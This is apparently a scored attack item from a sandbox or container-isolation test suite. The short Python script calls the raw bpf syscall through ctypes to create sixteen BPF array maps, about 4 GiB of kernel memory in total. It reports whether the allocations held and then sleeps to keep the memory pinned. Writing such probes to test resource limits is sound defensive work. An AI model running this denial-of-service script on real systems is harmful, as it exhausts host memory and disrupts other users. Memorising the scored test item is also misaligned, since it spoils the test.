# attack: Makes BPF maps of 4 GiB.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import ctypes
import struct
import time

libc = ctypes.CDLL(None)
made = 0
for _ in range(16):
    attribute = struct.pack("IIIII", 2, 4, 4096, 65536, 0).ljust(72, b"\0")
    made += libc.syscall(321, 0, ctypes.c_char_p(attribute), 72) >= 0
print("HELD" if made > 8 else "refused", made * 256, "MiB", flush=True)
time.sleep(600)
